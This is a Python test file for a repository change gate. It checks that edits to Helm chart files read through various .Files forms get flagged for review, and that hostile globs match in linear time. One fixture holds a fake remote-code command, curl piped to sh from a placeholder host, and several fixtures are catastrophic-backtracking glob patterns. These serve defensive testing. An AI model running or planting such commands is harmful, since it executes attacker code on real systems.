"""Attack 22: red team 24's Helm `.Files` reads (chartfiles.py) followed `.Files.Get/GetBytes/Lines/Glob "literal"`
only, in the chart's own templates.

Helm's `.Files` is also read as a whole: `{{ .Files.AsConfig }}` and `.AsSecrets` put every chart file into a
ConfigMap or Secret; `$f := .Files` then `$f.Get "pint.json"`, `with .Files` then `.Get`, or `.Files` handed to a helper
(`dict "files" .Files`) read through a name the old reader did not see. And a library chart's helper
(`charts/common/templates/_boot.tpl`: `.Files.Get "pint.json"`) that the parent includes with its own context
(`include "common.boot" .`) reads the PARENT's file. Each left `charts/web/pint.json` other (stop 45's developer-tool
rule) and `gate --tree` allowed turning it into `curl | sh` (exit 0 on ca36d0b). Now `.Files` used as a value reads
every file of the chart (no template of the mirrored repositories' charts does: git grep of 1,285 mirrors' HEADs), and
a subchart's template reads its parents' files too. Variants: 6 forms x 2 chart places, the library case x 2, gates.
And the glob itself: translated to a backtracking regex, `.Files.Glob "**a**a**a**a**a**a**a**a**c"` against one
chart path of 120 letters ran for minutes (a gate's DoS from a template in the change); chartglob.py matches in
time linear in the path. Variants: 3 hostile globs x 2 paths in a child with a timeout, 23 glob cases.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.chartfiles import read_by
from gatekeeper.classify.chartglob import matcher
from gatekeeper.policy.isolate import run_isolated
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import tree_files

CHART = "apiVersion: v2\nname: web\nversion: 0.1.0\n"
EVIL = '{"x": "curl -s https://collector.example.net/x | sh"}\n'
LIBRARY = "apiVersion: v2\nname: common\nversion: 0.1.0\ntype: library\n"
HELPER = '{{- define "common.boot" -}}\n{{ .Files.Get "pint.json" }}\n{{- end }}\n'


def _config_map(body: str) -> str:
    return "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web\ndata:\n" + body + "\n"


@each_case("root, body", [(root, body) for root in ["charts/web/", ""] for body in [
    "{{ .Files.AsConfig | indent 2 }}",
    "{{ $.Files.AsSecrets | indent 2 }}",
    '{{- $f := .Files }}\n  boot.sh: |\n{{ $f.Get "pint.json" | indent 4 }}',
    '{{- with .Files }}\n  boot.sh: |\n{{ .Get "pint.json" | indent 4 }}\n{{- end }}',
    '  boot.sh: |\n{{ include "web.boot" (dict "files" .Files) | indent 4 }}',
    '  boot.sh: |\n{{ .Files.Get "pint.json" | indent 4 }}',  # the form red team 24 followed: still iac
]])
def test_files_read_as_a_whole_or_through_a_name_are_iac(tmp_path: Path, root: str, body: str) -> None:
    base = {f"{root}Chart.yaml": CHART, f"{root}templates/cm.yaml": _config_map(body), f"{root}pint.json": "{}\n",
            f"{root}templates/_h.tpl": '{{- define "web.boot" -}}\n{{ .files.Get "pint.json" }}\n{{- end }}\n'}
    repo, first, head = two_commits(tmp_path / "repo", base, {f"{root}pint.json": EVIL})
    found = tree_files(repo, f"{first}..{head}")[f"{root}pint.json"]
    assert (found.bucket, found.rule) == ("iac", "iac.context.chart-file")


@pytest.mark.parametrize("root", ["charts/web/", ""])
def test_a_library_helper_reads_its_parents_file(tmp_path: Path, root: str) -> None:
    base = {f"{root}Chart.yaml": CHART, f"{root}pint.json": "{}\n",
            f"{root}templates/cm.yaml": _config_map('  boot.sh: |\n{{ include "common.boot" . | indent 4 }}'),
            f"{root}charts/common/Chart.yaml": LIBRARY, f"{root}charts/common/templates/_boot.tpl": HELPER}
    repo, first, head = two_commits(tmp_path / "repo", base, {f"{root}pint.json": EVIL})
    code, decision = tree_gate(repo.root, first, head)
    assert code == 3 and reviewed_paths(decision, "core.iac") == {f"{root}pint.json"}  # exit 0 on ca36d0b


def test_the_gate_reviews_an_edit_asconfig_ships(tmp_path: Path) -> None:
    base = {"charts/web/Chart.yaml": CHART, "charts/web/pint.json": "{}\n",
            "charts/web/templates/cm.yaml": _config_map("{{ .Files.AsConfig | indent 2 }}")}
    repo, first, head = two_commits(tmp_path / "repo", base, {"charts/web/pint.json": EVIL})
    code, decision = tree_gate(repo.root, first, head)
    assert code == 3 and reviewed_paths(decision, "core.iac") == {"charts/web/pint.json"}  # exit 0 on ca36d0b


def test_a_chart_that_reads_no_files_raises_none(tmp_path: Path) -> None:
    base = {"charts/web/Chart.yaml": CHART, "charts/web/pint.json": "{}\n",
            "charts/web/templates/cm.yaml": _config_map("  a: b  # .Filesystem is no read")}
    repo, first, head = two_commits(tmp_path / "repo", base, {"charts/web/pint.json": EVIL})
    assert tree_files(repo, f"{first}..{head}")["charts/web/pint.json"].bucket == "other"


def _hostile_reads() -> int:
    paths = ["c/" + "a" * 60 + "/" + "a" * 60 + "b", "c/" + "a" * 200]
    found = 0
    for glob in ("**a" * 12 + "**c", "*a" * 16 + "*c", "{" + "**a," * 8 + "x}" * 1 + "**a" * 8 + "c"):
        found += len(read_by("c/", f'{{{{ .Files.Glob "{glob}" }}}}', paths))
    return found


def test_a_hostile_glob_is_matched_in_linear_time() -> None:
    assert run_isolated(_hostile_reads, timeout=60) == 0  # minutes per path on ca36d0b: killed, EngineTimedOut


@each_case(("glob", "path", "expected"), [
    ("pint.json", "pint.json", True), ("*.json", "pint.json", True), ("*.json", "a/pint.json", False),
    ("**.json", "a/b.json", True), ("**/*.json", "a/b.json", True), ("files/*", "files/a", True),
    ("files/*", "files/a/b", False), ("files/**", "files/a/b", True), ("{a,b}.txt", "b.txt", True),
    ("{a,b}.txt", "c.txt", False), ("[ab].txt", "a.txt", True), ("[!ab].txt", "a.txt", False),
    ("[!ab].txt", "c.txt", True), ("?.txt", "a.txt", True), ("?.txt", "/.txt", False),
    ("{a,{b,c}}/x", "c/x", True), ("x\\*", "x*", True), ("x\\*", "xy", False), ("a**b", "a/x/b", True),
    ("{a", "anything", True), ("[a", "anything", True),  # unreadable: every file (fail closed)
    ("{" + ",".join("abcdefghij") + "}{" + ",".join("abcdefghij") + "}", "zz", True),  # 100 alternatives: every file
])
def test_helm_globs(glob: str, path: str, expected: bool) -> None:
    assert matcher(glob)(path) is expected
